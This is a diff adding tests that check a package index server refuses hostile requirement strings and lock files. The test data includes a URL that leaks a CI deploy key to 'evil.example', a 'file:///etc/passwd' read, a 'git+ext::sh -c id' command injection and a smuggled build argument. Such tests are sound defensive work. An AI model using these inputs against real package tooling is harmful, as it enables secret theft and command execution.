@@ -18,6 +18,7 @@ from support import environments, tracing, wheels
 from support.answers import Asked, Party, ask
 from support.clients import Machine
 from support.environments import revision
+from support.evidence import until
 from support.servers import Server, ppmctl
 from support.tracing import counted
 
@@ -178,6 +179,64 @@ def test_invalid_revisions_are_refused(index: Server) -> None:
             asked = Asked(path=f"/env/{path}")  # sent literally, without a client library's changes
             assert ask(Party(url=index.url, auth=index.auth), asked).status in (301, 404), path
     assert index.upload(good).status_code == 200
+
+
+HOSTILE = (
+    "x @ https://evil.example/${CI_DEPLOY_KEY}/x.whl",
+    'numpy; platform_version == "${CI_DEPLOY_KEY}"',
+    "x @ https://me:s3cret@host.example/x.whl",
+    "x @ https://host.example/x.whl?token=s3cret",
+    "x @ file:///etc/passwd",
+    "x @ git+ext::sh%20-c%20id",
+    'numpy; platform_version == "x --config-settings=y"',
+    "x.whl",
+    'numpy; platform_version == "\u202e"',
+)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_requirement_that_clients_expand_is_refused(index: Server, text: str, tmp_path: Path) -> None:
+    """From any client, and from an adopted folder; the reason repeats no secret."""
+    made = environments.forged("hostile", 1, text)
+    answer = index.upload(made)
+    assert (answer.status_code, answer.text.count("\n")) == (400, 1), answer.text
+    assert "s3cret" not in answer.text
+    wheels.write(tmp_path / "old", made)
+    done = ppmctl("index", "adopt", str(tmp_path / "old"), "--root", str(index.root), expect=1)
+    assert done.stdout.startswith("left  ")
+    assert "s3cret" not in done.stdout + done.stderr
+    assert "s3cret" not in (index.root / "audit.jsonl").read_text()
+    assert not (index.root / "packages" / "ppm-env-hostile").exists()
+    assert form(index, "hostile/requirements.txt").status_code == 404
+
+
+def test_the_drop_folder_refuses_the_same_requirements(index: Server) -> None:
+    made = [environments.forged(f"dropped-{number}", 1, text) for number, text in enumerate(HOSTILE)]
+    for file in made:
+        wheels.write(index.root / "drop", file)
+    reasons = [index.root / "drop" / f"{name}.rejected" for name, _content in made]
+    until(lambda: all(reason.exists() for reason in reasons), "all files are rejected")
+    assert not any("s3cret" in reason.read_text() for reason in reasons)
+    assert not list((index.root / "packages").glob("ppm-env-dropped-*"))
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("https://files.example/", "file:///srv/"),
+        ("https://files.example/", "https://me:s3cret@files.example/"),
+        ("https://files.example/", "https://files.example/${CI_DEPLOY_KEY}/"),
+        ('url = "https://files.example/', 'path = "/etc/'),
+    ],
+)
+def test_a_lock_that_is_not_the_same_everywhere_is_refused(index: Server, old: str, new: str) -> None:
+    lock = (
+        'lock-version = "1.0"\ncreated-by = "a test"\n[[packages]]\nname = "x"\nversion = "1.0"\n'
+        '[[packages.wheels]]\nurl = "https://files.example/x-1.0-py3-none-any.whl"\nhashes = {sha256 = "ab"}\n'
+    )
+    answer = index.upload(environments.forged("locked-badly", 1, "x", lock=lock.replace(old, new)))
+    assert answer.status_code == 400
+    assert "s3cret" not in answer.text
 
 
 # owners
